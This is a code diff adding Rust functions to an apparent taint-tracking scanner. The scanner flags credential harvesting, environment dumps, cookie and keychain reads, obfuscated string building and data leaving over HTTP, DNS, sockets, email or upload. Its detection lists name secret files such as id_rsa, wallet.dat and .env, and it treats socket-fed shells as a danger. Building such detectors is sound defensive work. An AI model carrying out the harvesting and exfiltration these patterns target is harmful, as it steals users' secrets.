+                    let bytes: Vec<u8> = list.iter().filter_map(num).map(|n| n as u8).collect();
+                    return from_bytes(bytes, first.taint.union(Taint::of(Taint::COMPUTED, None)));
+                }
+                return first;
+            }
+            "str" | "string" | "repr" | "list" | "tuple" | "array.from" | "json.loads" | "json.parse" => {
+                if matches!(first.name.as_deref(), Some(n) if is_whole_environment(n)) {
+                    return self.whole_environment(span);
+                }
+                return first;
+            }
+            "reversed" => {
+                let mut v = first.clone();
+                match &first.list {
+                    Some(list) => v.list = Some(list.iter().rev().cloned().collect()),
+                    None => v.text = first.text.chars().rev().collect(),
+                }
+                v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
+                return v;
+            }
+            "map" => {
+                let function = first;
+                let items = args.pos.get(1).cloned().unwrap_or_default();
+                let list = items.list.clone().unwrap_or_default();
+                let mapped: Vec<Val> = if function
+                    .name
+                    .as_deref()
+                    .is_some_and(|n| n == "chr" || n.ends_with(".chr"))
+                {
+                    list.iter().map(|item| self.chars(std::slice::from_ref(item))).collect()
+                } else {
+                    list.iter()
+                        .take(MAX_LIST)
+                        .map(|item| self.apply(&function, item.clone(), t).unwrap_or_default())
+                        .collect()
+                };
+                let mut v = Val::unknown("map(…)");
+                v.taint = items.taint.union(Taint::of(Taint::COMPUTED, None));
+                v.list = Some(mapped);
+                return v;
+            }
+            "getattr" => {
+                let object = first;
+                let attribute = args.pos.get(1).cloned().unwrap_or_default();
+                let base = object.name.clone().unwrap_or_else(|| object.text.clone());
+                let mut v = Val::named(format!("{base}.{}", attribute.text));
+                v.taint = object.taint.union(attribute.taint);
+                if attribute.taint.hidden() || !attribute.exact {
+                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
+                }
+                return v;
+            }
+            "__import__" | "importlib.import_module" | "require" | "import" => {
+                let module = first.text.trim_start_matches("node:").to_string();
+                let mut v = Val::named(module);
+                if first.taint.hidden() || !first.exact {
+                    v.taint = Taint::of(Taint::COMPUTED, None);
+                }
+                return v;
+            }
+            "globals" | "locals" | "vars" => return Val::named("globals"),
+            "os.getenv" | "os.environ.get" | "getenv" | "environ.get" | "process.env.get" => {
+                return self.env_var(&first.text, span);
+            }
+            "os.path.expanduser" | "os.path.expandvars" | "os.path.abspath" | "os.path.normpath" | "path.resolve"
+            | "path.normalize" => {
+                let mut v = first.clone();
+                v.text = v.text.replace("$HOME", "~").replace("${HOME}", "~");
+                v.name = Some("path".into());
+                return v;
+            }
+            "os.path.join" | "path.join" | "path.resolve.join" | "pathlib.path.joinpath" | "join-path" => {
+                let mut v = join_vals(&args.pos, "/");
+                v.name = Some("path".into());
+                return v;
+            }
+            "os.homedir" | "os.path.expanduser.home" | "pathlib.path.home" | "path.home" | "os.userinfo" => {
+                let mut v = Val::text("~");
+                v.name = Some("path".into());
+                return v;
+            }
+            "pathlib.path" | "path" | "pathlib.purepath" => {
+                let mut v = if args.pos.is_empty() {
+                    Val::text(".")
+                } else {
+                    join_vals(&args.pos, "/")
+                };
+                v.name = Some("path".into());
+                return v;
+            }
+            "open" | "io.open" | "codecs.open" | "builtins.open" | "fs.opensync" => {
+                let mode = args
+                    .get(1, "mode")
+                    .map(|v| v.text.clone())
+                    .unwrap_or_else(|| "r".into());
+                return self.open_handle(&first, &mode, span);
+            }
+            "getpass.getpass" | "getpass" => return self.prompted(span),
+            "input" | "raw_input" | "readline.question" | "rl.question" | "prompt" => {
+                let prompt = first.text.to_ascii_lowercase();
+                if prompt.contains("password")
+                    || prompt.contains("passphrase")
+                    || prompt.contains("seed phrase")
+                    || prompt.contains("private key")
+                {
+                    return self.prompted(span);
+                }
+                return Val::unknown("<input>");
+            }
+            "keyring.get_password" | "keytar.getpassword" | "win32crypt.cryptunprotectdata" => {
+                let origin = self.a.emit("secret-read/keychain", span, name.to_string(), None);
+                return Val::unknown("<secret>").tainted(Taint::of(Taint::SECRET, origin));
+            }
+            "pyperclip.paste" | "clipboardy.read" | "clipboardy.readsync" | "navigator.clipboard.readtext" => {
+                let origin = self.a.emit("clipboard-read", span, name.to_string(), None);
+                return Val::unknown("<clipboard>").tainted(Taint::of(Taint::SECRET_ENV, origin));
+            }
+            "pyperclip.copy" | "clipboardy.write" | "clipboardy.writesync" | "navigator.clipboard.writetext" => {
+                let e = self.a.emit("egress/clipboard", span, name.to_string(), None);
+                flow(self.a, &first, e, "", false, span);
+                return Val::unknown("");
+            }
+            "glob.glob" | "glob.iglob" | "glob" | "globby" | "fast-glob" | "fg" | "glob.sync" | "globsync" => {
+                return self.harvest(&first, span);
+            }
+            "os.walk" | "os.listdir" | "os.scandir" | "fs.readdirsync" => {
+                if let Some(kind) = secret_path_kind(&first.text) {
+                    let origin = self
+                        .a
+                        .emit(&format!("secret-read/{kind}"), span, first.text.clone(), None);
+                    return Val::unknown("<files>").tainted(Taint::of(Taint::SECRET, origin));
+                }
+                return Val::unknown("<files>");
+            }
+            "socket.gethostbyname"
+            | "socket.gethostbyname_ex"
+            | "socket.getaddrinfo"
+            | "dns.resolver.resolve"
+            | "dns.resolver.query"
+            | "dns.resolve"
+            | "dns.resolve4"
+            | "dns.resolvetxt"
+            | "dns.lookup"
+            | "dns.promises.resolve"
+            | "dns.promises.lookup" => {
+                if !first.exact || first.taint.has(Taint::SECRET | Taint::SECRET_ENV | Taint::COMPUTED) {
+                    let e = self.a.emit("egress/dns", span, first.text.clone(), None);
+                    flow(self.a, &first, e, "", false, span);
+                }
+                return Val::unknown("<address>");
+            }
+            "socket.socket"
+            | "socket.create_connection"
+            | "net.socket"
+            | "net.connect"
+            | "net.createconnection"
+            | "tls.connect" => {
+                if name.contains("connect") {
+                    self.socket = Some(span);
+                    self.a.emit("egress/socket", span, first.text.clone(), None);
+                }
+                return Val::named("socket-object");
+            }
+            "webbrowser.open" | "window.open" | "open-url" => {
+                let e = egress(self.a, &first, false, span);
+                flow(self.a, &first, e, "", false, span);
+                return Val::unknown("");
+            }
+            "navigator.sendbeacon" => {
+                let e = egress(self.a, &first, true, span);
+                if let Some(data) = args.pos.get(1) {
+                    flow(self.a, data, e, "", false, span);
+                }
+                return Val::unknown("");
+            }
+            _ => {}
+        }
+        if let Some(method) = http_method(name) {
+            return self.http(name, method, args, span);
+        }
+        if name == "fetch" || name.ends_with(".fetch") {
+            let options = args.pos.get(1).cloned().unwrap_or_default();
+            let method = field(&options, "method")
+                .map(|m| m.text.to_ascii_uppercase())
+                .unwrap_or_default();
+            let body = field(&options, "body").cloned();
+            let sends = body.is_some() || matches!(method.as_str(), "POST" | "PUT" | "PATCH");
+            let e = egress(self.a, &first, sends, span);
+            let host = split_url(&first.text).map(|(h, _)| h).unwrap_or_default();
+            if let Some(body) = &body {
+                flow(self.a, body, e, &host, false, span);
+            }
+            if let Some(headers) = field(&options, "headers") {
+                flow(self.a, headers, e, &host, true, span);
+            }
+            flow(self.a, &first, e, &host, false, span);
+            let origin = self.a.emit("fetch", span, first.text.clone(), None);
+            let mut v = Val::named("response").tainted(Taint::of(Taint::FETCHED, origin));
+            v.text = format!("<{}>", first.text);
+            return v;
+        }
+        if matches!(name, "smtplib.smtp" | "smtplib.smtp_ssl" | "nodemailer.createtransport") {
+            let mut v = Val::named("mailer");
+            v.text = first.text;
+            return v;
+        }
+        if matches!(
+            name,
+            "ftplib.ftp" | "ftplib.ftp_tls" | "paramiko.sshclient" | "paramiko.transport"
+        ) {
+            return Val::named("uploader");
+        }
+        if name == "sqlite3.connect" || name == "better-sqlite3" || name == "database" {
+            return read_path(self.a, &first, span);
+        }
+        if matches!(
+            name,
+            "browser_cookie3.chrome" | "browser_cookie3.load" | "browser_cookie3.firefox" | "browser_cookie3.edge"
+        ) {
+            let origin = self.a.emit("secret-read/browser-data", span, name.to_string(), None);
+            return Val::unknown("<cookies>").tainted(Taint::of(Taint::SECRET, origin));
+        }
+        if matches!(
+            name,
+            "shutil.copy" | "shutil.copyfile" | "shutil.copy2" | "fs.copyfilesync" | "fs.copyfile" | "copy-item"
+        ) {
+            let source = read_path(self.a, &first, span);
+            if let Some(dest) = args.pos.get(1) {
+                write_path(self.a, dest, &source, false, span);
+            }
+            return Val::unknown("");
+        }
+        if matches!(
+            name,
+            "fs.readfilesync"
+                | "fs.readfile"
+                | "fs.promises.readfile"
+                | "fs.createreadstream"
+                | "readfile"
+                | "readfilesync"
+        ) {
+            return read_path(self.a, &first, span);
+        }
+        if matches!(
+            name,
+            "fs.writefilesync"
+                | "fs.writefile"
+                | "fs.appendfilesync"
+                | "fs.appendfile"
+                | "fs.promises.writefile"
+                | "fs.promises.appendfile"
+                | "writefilesync"
+                | "appendfilesync"
+                | "writefile"
+                | "appendfile"
+                | "fs.createwritestream"
+        ) {
+            let content = args.pos.get(1).cloned().unwrap_or_default();
+            write_path(self.a, &first, &content, name.contains("append"), span);
+            return Val::unknown("");
+        }
+        if matches!(first.name.as_deref(), Some(n) if is_whole_environment(n)) && !name.ends_with(".get") {
+            // `json.dumps(os.environ)`, `JSON.stringify(process.env)`, `dict(os.environ)`.
+            return self.whole_environment(span);
+        }
+        if args
+            .all()
+            .any(|v| matches!(v.name.as_deref(), Some(n) if is_whole_environment(n)))
+        {
+            return self.whole_environment(span);
+        }
+        // An unknown call: its result carries what its arguments carried.
+        let mut v = Val::named(name.to_string());
+        v.taint = args.taint();
+        v.taint.bits &= Taint::SECRET | Taint::SECRET_ENV | Taint::FETCHED;
+        v.text = format!("<{name}(…)>");
+        v
+    }
+
+    /// A password the user types at the skill's prompt: what matters is where it goes.
+    fn prompted(&mut self, span: (usize, usize)) -> Val {
+        let origin = self.a.emit("secret-prompt", span, "PASSWORD".into(), None);
+        let mut v = Val::unknown("<password>").tainted(Taint::of(Taint::SECRET_ENV, origin));
+        v.name = Some("PASSWORD".into());
+        v
+    }
+
+    fn whole_environment(&mut self, span: (usize, usize)) -> Val {
+        let origin = self
+            .a
+            .emit("secret-read/env-dump", span, "every environment variable".into(), None);
+        Val::unknown("<env>").tainted(Taint::of(Taint::SECRET, origin))
+    }
+
+    fn harvest(&mut self, pattern: &Val, span: (usize, usize)) -> Val {
+        let lower = pattern.text.to_ascii_lowercase();
+        let kind = secret_path_kind(&lower).or_else(|| {
+            [
+                ".env",
+                "id_rsa",
+                "*.pem",
+                "wallet.dat",
+                "credentials",
+                ".npmrc",
+                ".kdbx",
+                "*.key",
+            ]
+            .iter()
+            .any(|p| lower.contains(p))
+            .then_some("env-file")
+        });
+        match kind {
+            Some(kind) => {
+                let origin = self.a.emit(
+                    &format!("secret-read/{kind}"),
+                    span,
+                    format!("searches for {}", pattern.text),
+                    None,
+                );
+                Val::unknown("<files>").tainted(Taint::of(Taint::SECRET, origin))
+            }
+            None => Val::unknown("<files>"),
+        }
+    }
+
+    fn open_handle(&mut self, path: &Val, mode: &str, span: (usize, usize)) -> Val {
+        if mode.contains('w') || mode.contains('a') || mode.contains('x') {
+            let mut v = Val::named(format!("file-write:{}", if mode.contains('a') { "a" } else { "w" }));
+            v.text = path.text.clone();
+            v.fields = Some(vec![("path".into(), path.clone())]);
+            return v;
+        }
+        let content = read_path(self.a, path, span);
+        let mut v = content;
+        v.name = Some("file-read".into());
+        v
+    }
+
+    fn decode(&mut self, input: &Val, layer: &'static str, span: (usize, usize)) -> Val {
+        let taint = input.taint.union(Taint::of(Taint::DECODED, None));
+        if !input.exact || !self.a.budget(input.text.len(), span.0) {
+            return Val::unknown("<decoded>").tainted(taint);
+        }
+        let bytes = match layer {
+            "base64" => base64_bytes(input.text.trim()),
+            "hex" => hex_bytes(input.text.trim()),
+            "zlib" => inflate(&chars_of(input)),
+            _ => None,
+        };
+        match bytes {
+            Some(bytes) => self.decoded(bytes, taint, layer, span),
+            None => Val::unknown("<decoded>").tainted(taint),
+        }
+    }
+
+    fn decoded(&mut self, bytes: Vec<u8>, taint: Taint, layer: &'static str, span: (usize, usize)) -> Val {
+        let v = from_bytes(bytes, taint);
+        if !v.bytes {
+            self.a.derive(&v.text.clone(), layer, span.0);
+        }
+        v
+    }
+
+    fn chars(&mut self, items: &[Val]) -> Val {
+        let mut text = String::new();
+        let mut exact = true;
+        let mut taint = Taint::of(Taint::COMPUTED, None);
+        for item in items {
+            taint = taint.union(item.taint);
+            match num(item) {
+                Some(n) => text.push(char::from_u32(n as u32).unwrap_or('\u{fffd}')),
+                None => {
+                    exact = false;
+                    text.push('…');
+                }
+            }
+        }
+        let mut v = Val::text(text);
+        v.exact = exact;
+        v.taint = taint;
+        v
+    }
+
+    /// A method on a value: string and list operations fold; a module's functions are
+    /// calls by their full name; a file handle's `write` writes.
+    fn method(
+        &mut self,
+        receiver: Val,
+        name: &str,
+        args: CallArgs,
+        span: (usize, usize),
+        t: &[Token],
+        at: usize,
+    ) -> Val {
+        let lower = name.to_ascii_lowercase();
+        let first = args.pos.first().cloned().unwrap_or_default();
+        if let Some(module) = receiver.name.clone()
+            && !module.starts_with("value.")
+        {
+            // File handles.
+            if module.starts_with("file-write:") && matches!(lower.as_str(), "write" | "writelines") {
+                let path = field(&receiver, "path").cloned().unwrap_or_default();
+                write_path(self.a, &path, &first, module.ends_with(":a"), span);
+                return Val::unknown("");
+            }
+            if module == "file-read" && matches!(lower.as_str(), "read" | "readlines" | "readline") {
+                let mut v = receiver.clone();
+                v.name = None;
+                return v;
+            }
+            if module == "path" {
+                return self.path_method(receiver, &lower, &args, span);
+            }
+            if module == "socket-object" {
+                match lower.as_str() {
+                    "connect" | "connect_ex" => {
+                        self.socket = Some(span);
+                        self.a.emit("egress/socket", span, first.text.clone(), None);
+                        return Val::unknown("");
+                    }
+                    "send" | "sendall" | "sendto" | "write" => {
+                        let e = self.a.emit("egress/socket", span, "socket send".into(), None);
+                        flow(self.a, &first, e, "", false, span);
+                        return Val::unknown("");
+                    }
+                    "fileno" | "makefile" | "pipe" => {
+                        // Streams handed to a process: a network shell with a shell.
+                        return Val::named("socket-stream");
+                    }
+                    _ => return Val::named("socket-object"),
+                }
+            }
+            if module == "mailer" && matches!(lower.as_str(), "sendmail" | "send_message" | "sendmail_async") {
+                let e = self.a.emit("egress/email", span, receiver.text.clone(), None);
+                for v in args.all() {
+                    flow(self.a, v, e, "", false, span);
+                }
+                return Val::unknown("");
+            }
+            if module == "uploader" && matches!(lower.as_str(), "storbinary" | "storlines" | "put" | "upload") {
+                let e = self.a.emit("egress/upload", span, lower.clone(), None);
+                for v in args.all() {
+                    let content = if v.name.as_deref() == Some("file-read") {
+                        v.clone()
+                    } else {
+                        read_path(self.a, v, span)
+                    };
+                    flow(self.a, &content, e, "", false, span);
+                }
+                return Val::unknown("");
+            }
+            if module.starts_with("type:") {
+                let type_name = module.trim_start_matches("type:");
+                return self.type_method(type_name, &lower, &args, span, t);
+            }
+            if module == "response" || module.ends_with("response") {
+                let mut v = receiver.clone();
+                v.name = Some("response".into());
+                return v;
+            }
+            let full = format!("{module}.{name}");
+            let mut callee = Val::named(full);
+            callee.taint = receiver.taint;
+            return self.call(callee, args, span, t, at);
+        }
+        // Folding on values.
+        match lower.as_str() {
+            "join" => {
+                let items = first.list.clone().unwrap_or_else(|| {
+                    if first.exact {
+                        first.text.chars().map(|c| Val::text(c.to_string())).collect()
+                    } else {
+                        vec![first.clone()]
+                    }
+                });
+                if receiver.list.is_some() && args.pos.len() <= 1 {
+                    // JavaScript `arr.join(sep)`.
+                    let sep = if args.pos.is_empty() {
+                        ",".to_string()
+                    } else {
+                        first.text.clone()
+                    };
+                    let list = receiver.list.clone().unwrap_or_default();
+                    let mut v = join_vals(&list, &sep);
+                    v.taint = v.taint.union(receiver.taint);
+                    if assembled(&list) {
+                        v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
+                        self.a.derive(&v.text.clone(), "joined", span.0);
+                    }
+                    return self.bounded(v, span);
+                }
+                let mut v = join_vals(&items, &receiver.text);
+                v.taint = v.taint.union(first.taint);
+                if assembled(&items) {
+                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
+                    self.a.derive(&v.text.clone(), "joined", span.0);
+                }
+                self.bounded(v, span)
+            }
+            "split" => {
+                let sep = first.text.clone();
+                let parts: Vec<Val> = if sep.is_empty() && args.pos.first().is_some_and(|a| a.exact) {
+                    receiver.text.chars().map(|c| Val::text(c.to_string())).collect()
+                } else if args.pos.is_empty() {
+                    receiver.text.split_whitespace().map(Val::text).collect()
+                } else {
+                    receiver.text.split(sep.as_str()).map(Val::text).collect()
+                };
+                let mut v = Val::unknown("[…]");
+                v.taint = receiver.taint;
+                v.list = Some(parts.into_iter().take(MAX_LIST).collect());
+                v
+            }
+            "reverse" => {
+                let mut v = receiver.clone();
+                if let Some(list) = &receiver.list {
+                    v.list = Some(list.iter().rev().cloned().collect());
+                }
+                v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
+                v
+            }
+            "map" => {
+                let list = receiver.list.clone().unwrap_or_default();
+                let function = first;
+                let mapped: Vec<Val> = list
+                    .iter()
+                    .take(MAX_LIST)
+                    .map(|item| {
+                        if function.name.as_deref() == Some("string.fromcharcode")
+                            || function.name.as_deref() == Some("String.fromCharCode")
+                        {
+                            self.chars(std::slice::from_ref(item))
+                        } else {
+                            self.apply(&function, item.clone(), t).unwrap_or_default()
+                        }
+                    })
+                    .collect();
+                let mut v = Val::unknown("[…]");
+                v.taint = receiver.taint.union(Taint::of(Taint::COMPUTED, None));
+                v.list = Some(mapped);
+                v
+            }
+            "replace" | "replaceall" => {
+                let to = args.pos.get(1).cloned().unwrap_or_default();
+                let text = if first.text.is_empty() {
+                    receiver.text.clone()
+                } else if lower == "replace" && self.lang == Lang::JavaScript {
+                    receiver.text.replacen(&first.text, &to.text, 1)
+                } else {
+                    receiver.text.replace(&first.text, &to.text)
+                };
+                let revealing = self.a.reveals(&text);
+                let mut v = Val::text(text);
+                v.exact = receiver.exact && first.exact && to.exact;
+                v.taint = receiver.taint.union(to.taint);
+                if revealing {
+                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
+                }
+                v
+            }
+            "decode" | "tostring" | "encode" => {
+                let encoding = first.text.to_ascii_lowercase();
+                if lower == "tostring" && receiver.bytes && matches!(encoding.as_str(), "base64" | "hex") {
+                    // Encoding bytes for transport: the data is the same.
+                    let mut v = receiver.clone();
+                    v.exact = false;
+                    v.bytes = false;
+                    return v;
+                }
+                let mut v = receiver.clone();
+                if lower == "decode" || lower == "tostring" {
+                    if let Ok(text) = String::from_utf8(chars_of(&receiver)) {
+                        v.text = text;
+                        v.bytes = false;
+                    }
+                    if matches!(encoding.as_str(), "rot13" | "rot_13") {
+                        v.text = super::shell_eval::rot13(&v.text);
+                        v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
+                    }
+                } else {
+                    v.bytes = true;
+                }
+                v.name = None;
+                v
+            }
+            "lower" | "upper" | "tolowercase" | "touppercase" | "strip" | "trim" | "lstrip" | "rstrip" | "tolower"
+            | "toupper" => {
+                let mut v = receiver.clone();
+                v.text = match lower.as_str() {
+                    "lower" | "tolowercase" | "tolower" => receiver.text.to_lowercase(),
+                    "upper" | "touppercase" | "toupper" => receiver.text.to_uppercase(),
+                    _ => receiver.text.trim().to_string(),
+                };
+                v.name = None;
+                v
+            }
+            "format" if self.lang == Lang::Python => {
+                let mut text = receiver.text.clone();
+                let mut taint = receiver.taint;
+                for (n, arg) in args.pos.iter().enumerate() {
+                    text = text
+                        .replacen("{}", &arg.text, 1)
+                        .replace(&format!("{{{n}}}"), &arg.text);
+                    taint = taint.union(arg.taint);
+                }
+                for (k, arg) in &args.named {
+                    text = text.replace(&format!("{{{k}}}"), &arg.text);
+                    taint = taint.union(arg.taint);
+                }
+                let mut v = Val::text(text);
+                v.exact = receiver.exact && args.all().all(|a| a.exact);
+                v.taint = taint;
+                v
+            }
+            "concat" => {
+                let mut v = receiver.clone();
+                for arg in &args.pos {
+                    v = concat(&v, arg);
+                }
+                v
+            }
+            "items" | "keys" | "values" | "copy" | "entries" if matches!(receiver.name.as_deref(), Some(n) if is_whole_environment(n)) => {
+                self.whole_environment(span)
+            }
+            "write" | "end" | "send" => {
+                // A request object's body (`req.write(data)`).
+                if receiver
+                    .fields
+                    .as_ref()
+                    .is_some_and(|f| f.iter().any(|(k, _)| k == "egress"))
+                {
+                    let e = field(&receiver, "egress").and_then(|v| v.num).map(|n| n as usize);
+                    flow(self.a, &first, e, "", false, span);
+                }
+                Val::unknown("")
+            }
+            "read" | "readall" | "json" | "text" | "content" | "getvalue" | "readtoend" => {
+                let mut v = receiver.clone();
+                v.name = None;
+                v
+            }
+            _ => {
+                let mut v = Val::unknown(format!("….{name}()"));
+                v.taint = receiver.taint.union(args.taint());
+                v.taint.bits &= Taint::SECRET | Taint::SECRET_ENV | Taint::FETCHED | Taint::DECODED | Taint::COMPUTED;
+                v
+            }
+        }
+    }
+
+    fn path_method(&mut self, receiver: Val, name: &str, args: &CallArgs, span: (usize, usize)) -> Val {
+        let first = args.pos.first().cloned().unwrap_or_default();
+        match name {
+            "read_text" | "read_bytes" | "open" => {
+                let mode = first.text.clone();
+                if mode.contains('w') || mode.contains('a') {
+                    return self.open_handle(&receiver, &mode, span);
+                }
+                read_path(self.a, &receiver, span)
+            }
+            "write_text" | "write_bytes" => {
+                write_path(self.a, &receiver, &first, false, span);
+                Val::unknown("")
+            }
+            "joinpath" | "__truediv__" => {
+                let mut v = join_vals(
+                    &[receiver]
+                        .into_iter()
+                        .chain(args.pos.iter().cloned())
+                        .collect::<Vec<_>>(),
+                    "/",
+                );
+                v.name = Some("path".into());
+                v
+            }
+            "expanduser" | "resolve" | "absolute" => receiver,
+            "glob" | "rglob" => self.harvest(&concat(&concat(&receiver, &Val::text("/")), &first), span),
+            "home" => {
+                let mut v = Val::text("~");
+                v.name = Some("path".into());
+                v
+            }
+            _ => Val::unknown("…"),
+        }
+    }
+
+    fn type_method(&mut self, type_name: &str, name: &str, args: &CallArgs, span: (usize, usize), t: &[Token]) -> Val {
+        let first = args.pos.first().cloned().unwrap_or_default();
+        match (type_name, name) {
+            (_, "frombase64string") => self.decode(&first, "base64", span),
+            (ty, "getstring") if ty.contains("encoding") => {
+                let callee = Val::named(format!("{ty}.getstring"));
+                let args2 = CallArgs {
+                    pos: vec![first],
+                    named: Vec::new(),
+                };
+                self.call(callee, args2, span, t, 0)
+            }
+            (ty, "create") if ty.contains("scriptblock") => {
+                let mut v = first;
+                v.name = Some("scriptblock".into());
+                v
+            }
+            (ty, "join") if ty == "string" => {
+                let sep = first.text.clone();
+                let list = args
+                    .pos
+                    .get(1)
+                    .and_then(|l| l.list.clone())
+                    .unwrap_or_else(|| args.pos.iter().skip(1).cloned().collect());
+                let mut v = join_vals(&list, &sep);
+                v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
+                v
+            }
+            (ty, "getenvironmentvariables") if ty.contains("environment") => self.whole_environment(span),
+            (ty, "getenvironmentvariable") if ty.contains("environment") => self.env_var(&first.text, span),
+            (ty, "downloadstring" | "downloaddata") if ty.contains("webclient") => {
+                egress(self.a, &first, false, span);
+                let origin = self.a.emit("fetch", span, first.text.clone(), None);
+                Val::unknown(format!("<{}>", first.text)).tainted(Taint::of(Taint::FETCHED, origin))
+            }
+            (ty, "downloadfile") if ty.contains("webclient") => {
+                let origin = self.a.emit("fetch", span, first.text.clone(), None);
+                if let Some(path) = args.pos.get(1) {
+                    self.env.insert(
+                        format!("fetched:{}", path.text.to_ascii_lowercase()),
+                        Val::unknown("").tainted(Taint::of(Taint::FETCHED, origin)),
+                    );
+                }
+                Val::unknown("")
+            }
+            (ty, m) if ty.contains("webclient") && m.starts_with("upload") => {
+                let e = egress(self.a, &first, true, span);
+                for v in args.pos.iter().skip(1) {
+                    let content = if m == "uploadfile" {
+                        read_path(self.a, v, span)
+                    } else {
+                        v.clone()
+                    };
+                    flow(self.a, &content, e, "", false, span);
+                }
+                Val::unknown("")
+            }
+            (ty, "reverse") if ty.contains("array") => Val::unknown("…"),
+            _ => Val::unknown("…").tainted(args.taint()),
+        }
+    }
+
+    /// `requests.post(url, data=…)`, `axios.post(url, body)`, `httpx.get(url, params=…)`.
+    fn http(&mut self, name: &str, method: &str, args: &CallArgs, span: (usize, usize)) -> Val {
+        let url = args.get(0, "url").cloned().unwrap_or_default();
+        let url = if url.fields.is_some() {
+            // `axios({ url, method, data })`, `https.request({ hostname, path })`.
+            field(&url, "url")
+                .cloned()
+                .or_else(|| {
+                    field(&url, "hostname").or(field(&url, "host")).map(|h| {
+                        Val::text(format!(
+                            "https://{}{}",
+                            h.text,
+                            field(&url, "path").map(|p| p.text.clone()).unwrap_or_default()
+                        ))
+                    })
+                })
+                .unwrap_or(url)
+        } else {
+            url
+        };
+        let options = args.pos.get(1).cloned().unwrap_or_default();
+        let method = if method == "REQUEST" {
+            args.get(0, "method")
+                .filter(|m| m.exact && m.text.len() < 8)
+                .map(|m| m.text.to_ascii_uppercase())
+                .or_else(|| field(&options, "method").map(|m| m.text.to_ascii_uppercase()))
+                .unwrap_or_else(|| "GET".into())
+        } else {
+            method.to_string()
+        };
+        let mut bodies: Vec<Val> = ["data", "json", "files", "body", "content"]
+            .iter()
+            .filter_map(|k| args.named(k).cloned())
+            .collect();
+        if let Some(b) = field(&options, "data").or(field(&options, "body")) {
+            bodies.push(b.clone());
+        }
+        let is_axios_like = name.starts_with("axios")
+            || name.starts_with("got")
+            || name.starts_with("ky")
+            || name.starts_with("superagent");
+        if is_axios_like
+            && matches!(method.as_str(), "POST" | "PUT" | "PATCH")
+            && let Some(body) = args.pos.get(1)
+        {
+            bodies.push(body.clone());
+        }
+        if name.ends_with("urlopen")
+            && let Some(body) = args.pos.get(1)
+        {
+            bodies.push(body.clone());
+        }
+        let params: Vec<Val> = args.named("params").into_iter().cloned().collect();
+        let sends = !bodies.is_empty() || matches!(method.as_str(), "POST" | "PUT" | "PATCH");
+        let e = egress(
+            self.a,
+            &url,
+            sends || params.iter().any(|p| p.taint.has(Taint::SECRET)),
+            span,
+        );
+        let host = split_url(&url.text).map(|(h, _)| h).unwrap_or_default();
+        for body in bodies.iter().chain(params.iter()) {
+            flow(self.a, body, e, &host, false, span);
+        }
+        flow(self.a, &url, e, &host, false, span);
+        if let Some(headers) = args.named("headers").or(field(&options, "headers")) {
+            flow(self.a, headers, e, &host, true, span);
+        }
+        let origin = self.a.emit("fetch", span, url.text.clone(), None);
+        let mut v = Val::named("response").tainted(Taint::of(Taint::FETCHED, origin));
+        v.text = format!("<{}>", url.text);
+        if let Some(e) = e {
+            v.fields = Some(vec![("egress".into(), number(e as f64))]);
+        }
+        v
+    }
+}
+
+/// Whether a joined list was assembled character by character (or from pieces
+/// already assembled): how obfuscation builds a string, not how code builds a command.
+fn assembled(items: &[Val]) -> bool {
+    items.iter().any(|v| v.taint.has(Taint::COMPUTED))
+        || items.len() >= 3 && items.iter().all(|v| v.text.chars().count() <= 1)
+}
+
+/// An argument vector as one shell line, each argument quoted as the shell would
+/// need it, so `['bash', '-c', 'a | b']` reads as `bash -c 'a | b'`.
+fn argv_line(list: &[Val]) -> Val {
+    let quoted: Vec<Val> = list
+        .iter()
+        .map(|v| {
+            let plain = !v.text.is_empty()
+                && v.text
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || "-_./=:@%+,~".contains(c));
+            let mut q = v.clone();
+            if !plain {
+                q.text = format!("'{}'", v.text.replace('\'', "'\\''"));
+            }
+            q
+        })
+        .collect();
+    join_vals(&quoted, " ")
+}
+
+/// The HTTP method a call sends with, for the clients this knows (`REQUEST` when the
+/// method is an argument).
+fn http_method(name: &str) -> Option<&'static str> {
+    let (module, method) = name.rsplit_once('.')?;
+    let client = [
+        "requests",
+        "httpx",
+        "aiohttp",
+        "session",
+        "client",
+        "axios",
+        "got",
+        "ky",
+        "superagent",
+        "needle",
+        "http",
+        "https",
+        "urllib3",
+        "urllib.request",
+        "urllib2",
+        "treq",
+    ];
+    if !client
+        .iter()
+        .any(|c| module == *c || module.ends_with(&format!(".{c}")) || module.starts_with(&format!("{c}.")))
+        && !module.ends_with("session")
+        && !module.ends_with("client")
+        && !module.ends_with("poolmanager")
+    {
+        return None;
+    }
+    Some(match method {
+        "get" => "GET",
+        "post" => "POST",
+        "put" => "PUT",
+        "patch" => "PATCH",
+        "delete" => "DELETE",
+        "head" => "HEAD",
+        "request" | "urlopen" | "fetch" => "REQUEST",
+        _ => return None,
+    })
+}
+
+/// Calls that run a command line, with what kind: `shell` or `pty`.
+fn shell_runner(name: &str) -> Option<&'static str> {
+    Some(match name {
+        "os.system"
+        | "os.popen"
+        | "os.popen2"
+        | "os.popen3"
+        | "commands.getoutput"
+        | "commands.getstatusoutput"
+        | "subprocess.run"
+        | "subprocess.call"
+        | "subprocess.check_call"
+        | "subprocess.check_output"
+        | "subprocess.popen"
+        | "subprocess.getoutput"
+        | "subprocess.getstatusoutput"
+        | "asyncio.create_subprocess_shell"
+        | "asyncio.create_subprocess_exec"
+        | "os.execl"
+        | "os.execlp"
+        | "os.execv"
+        | "os.execvp"
+        | "os.execve"
+        | "os.spawnl"
+        | "os.spawnlp"
+        | "os.spawnv"
+        | "os.spawnvp"
+        | "child_process.exec"
+        | "child_process.execsync"
+        | "child_process.spawn"
+        | "child_process.spawnsync"
+        | "child_process.execfile"
+        | "child_process.execfilesync"
+        | "child_process.fork"
+        | "exec"
+        | "execsync"
+        | "spawn"
+        | "spawnsync"
+        | "execfile"
+        | "execfilesync"
+        | "execa"
+        | "execa.command"
+        | "shelljs.exec"
+        | "zx.$"
+        | "bun.spawn"
+        | "deno.run" => "shell",
+        "pty.spawn" => "pty",
+        _ => return None,
+    })
+}
+
+fn is_whole_environment(name: &str) -> bool {
+    let lower = name.to_ascii_lowercase();
+    matches!(lower.as_str(), "os.environ" | "process.env" | "environ")
+}
+
